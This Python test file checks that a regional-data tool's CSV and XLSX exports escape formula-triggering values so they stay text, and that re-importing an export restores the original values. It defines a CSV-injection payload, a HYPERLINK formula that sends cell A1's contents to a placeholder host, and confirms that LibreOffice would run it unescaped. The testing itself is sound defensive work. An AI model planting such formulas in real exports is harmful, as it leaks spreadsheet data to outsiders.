"""CSV injection: values that would start a spreadsheet formula are written as text in every
CSV and XLSX we write, and an import of our own export gives back the original value."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from chiiki import Workbench
from chiiki.ingest.formulas import escape_cell, unescape_cell

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"詳細")'


@pytest.mark.parametrize(
    "value",
    [HOSTILE, "+81-3-1234", "-1+1", "@SUM(A1)", "\t=1", "'=already", "''@x", "普通の値", "", "'quoted", 5, None],
)
def test_escape_is_reversible_and_only_touches_triggers(value: object) -> None:
    out = escape_cell(value)
    assert unescape_cell(out) == value
    if isinstance(value, str) and value.lstrip("'")[:1] in ("=", "+", "-", "@", "\t"):
        assert isinstance(out, str) and out.startswith("'") and out[1:] == value
    else:
        assert out == value


def _registry_with(tmp_path: Path) -> Workbench:
    src = tmp_path / "in.csv"
    src.write_text(
        "adoption_id,program_id,region_name,title,prefectures,start_fy,end_fy,notes,source_urls\n"
        f'X-1,KC1,札幌,"{HOSTILE.replace(chr(34), chr(34) * 2)}",北海道,2002,2006,@cmd,https://example.org/x\n',
        encoding="utf-8",
    )
    wb = Workbench.open(str(tmp_path / "a.db"))
    wb.init()
    wb.import_file(str(src), table="adoptions")
    return wb


def test_csv_export_neutralises_and_round_trips(tmp_path: Path) -> None:
    wb = _registry_with(tmp_path)
    out = tmp_path / "out.csv"
    wb.export_table("adoptions", "csv", str(out))
    line = next(x for x in out.read_text(encoding="utf-8-sig").splitlines() if x.startswith("X-1,"))
    assert "\"'=HYPERLINK(" in line and ",'@cmd," in line
    # our own export imported into a new database gives back the original values
    again = Workbench.open(str(tmp_path / "b.db"))
    again.init()
    again.import_file(str(out), table="adoptions")
    row = next(r for r in again.export_table("adoptions", "json").data["text"].split("\n") if '"X-1"' in r)
    assert "=HYPERLINK(" in row and "'=HYPERLINK" not in row and '"@cmd"' in row


def test_xlsx_export_writes_text_never_formulas(tmp_path: Path) -> None:
    wb = _registry_with(tmp_path)
    out = tmp_path / "out.xlsx"
    wb.export_table("adoptions", "xlsx", str(out))
    ws = openpyxl.load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row if c.value == HOSTILE]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_report_workbook_has_no_formulas(tmp_path: Path) -> None:
    import pandas as pd

    from chiiki.report.xlsx import write_xlsx

    path = write_xlsx({"t": pd.DataFrame({"a": [HOSTILE, "x"], "b": [1, -2]})}, tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(path)["t"]
    assert ws["A2"].value == HOSTILE and ws["A2"].data_type == "s" and ws["B3"].value == -2


def _soffice() -> str:
    import os
    import shutil

    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if exe is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice is not installed (scripts/system-deps.sh installs it in CI)")
        pytest.skip("LibreOffice is not installed")
    return exe


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_libreoffice_opens_the_export_as_text(tmp_path: Path, fmt: str) -> None:
    """A spreadsheet user's view: LibreOffice (headless) opens our export and saves it as XLSX;
    the hostile value is a text cell there, not a formula (without the escape it is one)."""
    import subprocess

    exe = _soffice()
    wb = _registry_with(tmp_path)
    out = tmp_path / f"export.{fmt}"
    wb.export_table("adoptions", fmt, str(out))
    conv = tmp_path / "conv"
    profile = tmp_path / "lo-profile"
    args = [exe, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", "xlsx"]
    if fmt == "csv":
        args += ["--infilter=CSV:44,34,76,1"]  # comma, double quote, UTF-8, from line 1
    subprocess.run([*args, "--outdir", str(conv), str(out)], check=True, capture_output=True, timeout=180)
    ws = openpyxl.load_workbook(conv / "export.xlsx").active
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    texts = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
    assert any("HYPERLINK(" in t for t in texts)


def test_without_the_escape_libreoffice_would_run_the_formula(tmp_path: Path) -> None:
    """The control: the same value written raw becomes a formula in LibreOffice."""
    import subprocess

    exe = _soffice()
    raw = tmp_path / "raw.csv"
    raw.write_text('a\n"' + HOSTILE.replace('"', '""') + '"\n', encoding="utf-8")
    profile = tmp_path / "lo-profile"
    subprocess.run(
        [
            exe,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--infilter=CSV:44,34,76,1",
            "--outdir",
            str(tmp_path / "conv"),
            str(raw),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    ws = openpyxl.load_workbook(tmp_path / "conv" / "raw.xlsx").active
    assert ws["A2"].data_type == "f"
